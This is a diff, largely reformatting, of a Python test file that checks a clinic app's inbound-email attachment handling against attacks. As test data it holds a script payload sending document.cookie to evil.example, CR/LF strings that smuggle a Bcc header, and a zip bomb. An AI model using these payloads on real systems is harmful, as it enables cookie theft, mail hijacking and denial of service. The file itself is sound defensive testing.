@@ -4,6 +4,7 @@ Each test is an attack from issue #14 (items 1 and 2): forged senders, guessed a
 message twice, CR/LF smuggled into a subject, files that lie about their type, a hundred attachments,
 and mail that SES itself judged bad. The attacker must get nothing attached and must not stop the mail.
 """
+
 from __future__ import annotations
 
 import base64
@@ -20,9 +21,12 @@ from tests.api.test_documents import PDF, letter, mail, paid, replies_to, subjec
 from tests.helpers import Api, make_user, outbox
 
 ATTACKER = "mallory@evil.example"
-PASSING = {"X-SES-Spam-Verdict": "PASS", "X-SES-Virus-Verdict": "PASS",
-           "Authentication-Results": "amazonses.com; spf=pass (spf=pass) smtp.mailfrom=example.org; "
-                                     "dkim=pass header.i=@example.org; dmarc=pass header.from=example.org;"}
+PASSING = {
+    "X-SES-Spam-Verdict": "PASS",
+    "X-SES-Virus-Verdict": "PASS",
+    "Authentication-Results": "amazonses.com; spf=pass (spf=pass) smtp.mailfrom=example.org; "
+    "dkim=pass header.i=@example.org; dmarc=pass header.from=example.org;",
+}
 
 
 def attachments_of(patient: Api, booking_id: str) -> list[dict]:
@@ -64,14 +68,17 @@ def store_and_notify(raw: bytes, key: str) -> list[dict]:
 
 # --- 1. Forged documents by email ---------------------------------------------------------------------------
 
+
 def test_forged_from_to_the_general_address_attaches_nothing_and_is_held_for_the_registry(
-        client, paid: dict, patient: Api) -> None:
+    client, paid: dict, patient: Api
+) -> None:
     """The attacker knows Anna's address and her appointment time, and writes as her to the clinic's address."""
     from chalicelib.documents.inbound import receive
 
     subject = subject_for(paid) + " СРОЧНО откройте http://evil.example/x"
-    outcome = receive(letter("anna@example.org", "telemed@clinic.local", subject,
-                             [("заключение.pdf", "application/pdf", PDF)]))
+    outcome = receive(
+        letter("anna@example.org", "telemed@clinic.local", subject, [("заключение.pdf", "application/pdf", PDF)])
+    )
     assert outcome["attached"] == []
     assert attachments_of(patient, paid["id"]) == []
     assert stored_attachments() == []
@@ -90,8 +97,11 @@ def test_mail_from_an_unknown_sender_gets_no_reply(paid: dict) -> None:
     """No backscatter: a stranger (or a forged stranger's address) is never answered."""
     from chalicelib.documents.inbound import receive
 
-    receive(letter("victim@elsewhere.example", "telemed@clinic.local", subject_for(paid),
-                   [("x.pdf", "application/pdf", PDF)]))
+    receive(
+        letter(
+            "victim@elsewhere.example", "telemed@clinic.local", subject_for(paid), [("x.pdf", "application/pdf", PDF)]
+        )
+    )
     assert [m for m in outbox() if m["to"] == ["victim@elsewhere.example"]] == []
 
 
@@ -99,10 +109,13 @@ def test_a_guessed_secret_address_attaches_nothing(client, paid: dict, patient: 
     from chalicelib.documents.inbound import receive
 
     domain = paid["documents_address"].split("@", 1)[1]
-    for guess in (f"docs+{base64.b32encode(secrets.token_bytes(20)).decode().lower()}@{domain}",
-                  f"docs+{paid['id']}@{domain}", f"docs+@{domain}",
-                  paid["documents_address"].replace("@", "x@"),
-                  paid["documents_address"].split("@")[0] + "@evil.example"):
+    for guess in (
+        f"docs+{base64.b32encode(secrets.token_bytes(20)).decode().lower()}@{domain}",
+        f"docs+{paid['id']}@{domain}",
+        f"docs+@{domain}",
+        paid["documents_address"].replace("@", "x@"),
+        paid["documents_address"].split("@")[0] + "@evil.example",
+    ):
         outcome = receive(letter("anna@example.org", guess, subject_for(paid), [("x.pdf", "application/pdf", PDF)]))
         assert outcome["attached"] == [], guess
     assert attachments_of(patient, paid["id"]) == []
@@ -139,8 +152,9 @@ def test_the_secret_address_is_the_patients_alone(client, paid: dict, patient: A
     assert token not in json.dumps([item.attribute_values for item in DocumentsAddress.scan()], default=str)
 
 
-def test_ses_verdicts_must_pass_outside_the_local_stage(paid: dict, patient: Api,
-                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+def test_ses_verdicts_must_pass_outside_the_local_stage(
+    paid: dict, patient: Api, monkeypatch: pytest.MonkeyPatch
+) -> None:
     from chalicelib.config import settings
     from chalicelib.documents import inbound
 
@@ -169,6 +183,7 @@ def test_ses_verdicts_must_pass_outside_the_local_stage(paid: dict, patient: Api
 
 # --- 2. Duplicate delivery, CR/LF, poison messages --------------------------------------------------------
 
+
 def test_the_same_ses_message_twice_attaches_once(paid: dict, patient: Api) -> None:
     raw = letter("anna@example.org", paid["documents_address"], "анализы", [("a.pdf", "application/pdf", PDF)])
     first = store_and_notify(raw, "inbound/0000ses-message-id-1")
@@ -184,25 +199,44 @@ def test_crlf_in_a_subject_neither_injects_headers_nor_stops_the_outbox(client, 
     from chalicelib import outbox as mails
     from chalicelib.documents.inbound import receive
 
-    injected = "=?utf-8?b?" + base64.b64encode("Анализы\r\nBcc: mallory@evil.example\r\nX-Injected: 1".encode()
-                                                ).decode() + "?="
-    raw = ("From: anna@example.org\r\nTo: telemed@clinic.local\r\nSubject: " + injected +
-           "\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhello\r\n").encode()
+    injected = (
+        "=?utf-8?b?"
+        + base64.b64encode("Анализы\r\nBcc: mallory@evil.example\r\nX-Injected: 1".encode()).decode()
+        + "?="
+    )
+    raw = (
+        "From: anna@example.org\r\nTo: telemed@clinic.local\r\nSubject: "
+        + injected
+        + "\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhello\r\n"
+    ).encode()
     receive(raw)  # no exception out of the handler
     # A file name with CR/LF (RFC 2231), echoed in the reply's list of files.
-    raw2 = ("From: anna@example.org\r\nTo: " + paid["documents_address"] + "\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
-            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\n"
-            "Content-Type: application/pdf\r\nContent-Disposition: attachment; "
-            "filename*=utf-8''a%0D%0ABcc%3A%20mallory%40evil.example%0D%0AX-Injected%3A%201.pdf\r\n"
-            "Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(PDF).decode() + "\r\n--b--\r\n").encode()
+    raw2 = (
+        "From: anna@example.org\r\nTo: " + paid["documents_address"] + "\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
+        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\n"
+        "Content-Type: application/pdf\r\nContent-Disposition: attachment; "
+        "filename*=utf-8''a%0D%0ABcc%3A%20mallory%40evil.example%0D%0AX-Injected%3A%201.pdf\r\n"
+        "Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(PDF).decode() + "\r\n--b--\r\n"
+    ).encode()
     assert len(receive(raw2)["attached"]) == 1
     for message in sent_raw():
         head = message.split(b"\r\n\r\n", 1)[0]
         assert b"X-Injected" not in head and b"Bcc:" not in head
     # A later message still goes out.
-    later = mails.compose("anna@example.org", "reminder", {
-        "full_name": "Анна", "doctor_name": "Орлова", "specialty": "Кардиология", "price": 1,
-        "booking_url": "http://x", "starts_text": "завтра", "patient_starts_text": None, "minutes": 30})
+    later = mails.compose(
+        "anna@example.org",
+        "reminder",
+        {
+            "full_name": "Анна",
+            "doctor_name": "Орлова",
+            "specialty": "Кардиология",
+            "price": 1,
+            "booking_url": "http://x",
+            "starts_text": "завтра",
+            "patient_starts_text": None,
+            "minutes": 30,
+        },
+    )
     assert mails.send_now(later) is True
     assert mails.deliver_due() >= 0
 
@@ -213,12 +247,26 @@ def test_a_poison_message_is_marked_failed_and_never_blocks_the_next(client) -> 
 
     poison = mails.compose("anna@example.org", "reminder", {"full_name": "нет остальных полей"})
     poison.save()
-    header = mails.compose("anna@example.org\r\nBcc: mallory@evil.example", "password_reset",
-                           {"full_name": "Анна", "reset_url": "http://x", "valid_until": "завтра"})
+    header = mails.compose(
+        "anna@example.org\r\nBcc: mallory@evil.example",
+        "password_reset",
+        {"full_name": "Анна", "reset_url": "http://x", "valid_until": "завтра"},
+    )
     header.save()
-    good = mails.compose("boris@example.org", "reminder", {
-        "full_name": "Борис", "doctor_name": "Орлова", "specialty": "Кардиология", "price": 1,
-        "booking_url": "http://x", "starts_text": "завтра", "patient_starts_text": None, "minutes": 30})
+    good = mails.compose(
+        "boris@example.org",
+        "reminder",
+        {
+            "full_name": "Борис",
+            "doctor_name": "Орлова",
+            "specialty": "Кардиология",
+            "price": 1,
+            "booking_url": "http://x",
+            "starts_text": "завтра",
+            "patient_starts_text": None,
+            "minutes": 30,
+        },
+    )
     good.save()
     assert mails.deliver_due() >= 1
     assert OutboxMessage.get(good.message_id).status == "sent"
@@ -234,7 +282,7 @@ def test_a_poison_message_is_marked_failed_and_never_blocks_the_next(client) -> 
     failed = admin.get("/outbox/failed")
     assert failed.status_code == 200, failed.json
     assert poison.message_id in [m["id"] for m in failed.json]
-    assert [m["last_error"] for m in failed.json if m["id"] == poison.message_id][0]
+    assert next(m["last_error"] for m in failed.json if m["id"] == poison.message_id)
 
 
 def test_the_inbound_queue_has_a_dead_letter_queue() -> None:
@@ -250,13 +298,15 @@ def test_provisioned_inbound_queue_redrives_to_its_dead_letters(aws) -> None:
 
     sqs = clients.client("sqs")
     url = sqs.get_queue_url(QueueName=resources.inbound_mail_queue())["QueueUrl"]
-    policy = json.loads(sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["RedrivePolicy"])
-                        ["Attributes"]["RedrivePolicy"])
+    policy = json.loads(
+        sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["RedrivePolicy"])["Attributes"]["RedrivePolicy"]
+    )
     assert policy["deadLetterTargetArn"].endswith(":" + resources.inbound_mail_queue() + "-dead")
     assert int(policy["maxReceiveCount"]) == 5
 
 
 # --- 3. Files that lie, and too many of them -------------------------------------------------------------
+
 
 def test_mislabelled_files_and_a_zip_bomb_are_refused_by_their_bytes(paid: dict, patient: Api) -> None:
     from chalicelib.documents.inbound import receive
@@ -265,12 +315,19 @@ def test_mislabelled_files_and_a_zip_bomb_are_refused_by_their_bytes(paid: dict,
     with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("bomb.pdf", b"\0" * (50 * 1024 * 1024))
     html = b"<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>"
-    outcome = receive(letter("anna@example.org", paid["documents_address"], "файлы", [
-        ("анализы.pdf", "application/pdf", html),
-        ("скан.pdf", "application/pdf", bomb.getvalue()),
-        ("фото.jpg", "image/jpeg", b"GIF89a" + b"\0" * 20),
-        ("пусто.pdf", "application/pdf", b""),
-    ]))
+    outcome = receive(
+        letter(
+            "anna@example.org",
+            paid["documents_address"],
+            "файлы",
+            [
+                ("анализы.pdf", "application/pdf", html),
+                ("скан.pdf", "application/pdf", bomb.getvalue()),
+                ("фото.jpg", "image/jpeg", b"GIF89a" + b"\0" * 20),
+                ("пусто.pdf", "application/pdf", b""),
+            ],
+        )
+    )
     assert outcome["attached"] == []
     assert sorted(r["filename"] for r in outcome["refused"]) == ["анализы.pdf", "пусто.pdf", "скан.pdf", "фото.jpg"]
     assert attachments_of(patient, paid["id"]) == [] and stored_attachments() == []
@@ -289,8 +346,10 @@ def test_a_hundred_attachments_respect_the_limit_and_leave_nothing_half_written(
     assert len(stored_attachments()) == 10
     assert int(booking_store.get_booking(paid["id"]).attachments_count) == 10
     # The patient's cabinet still refuses an eleventh.
-    eleventh = patient.post(f"/bookings/{paid['id']}/attachments",
-                            {"filename": "ещё.pdf", "content_type": "application/pdf", "size": len(PDF)})
+    eleventh = patient.post(
+        f"/bookings/{paid['id']}/attachments",
+        {"filename": "ещё.pdf", "content_type": "application/pdf", "size": len(PDF)},
+    )
     assert eleventh.status_code == 409
 
 
@@ -299,8 +358,9 @@ def test_another_patients_secret_address_puts_files_in_their_booking_only(client
     from chalicelib.documents.inbound import receive
 
     boris = another_patient(client)
-    outcome = receive(letter("boris@example.org", "telemed@clinic.local", subject_for(paid),
-                             [("x.pdf", "application/pdf", PDF)]))
+    outcome = receive(
+        letter("boris@example.org", "telemed@clinic.local", subject_for(paid), [("x.pdf", "application/pdf", PDF)])
+    )
     assert outcome["attached"] == []
     assert attachments_of(patient, paid["id"]) == []
     assert boris.get(f"/bookings/{paid['id']}/attachments").status_code == 404
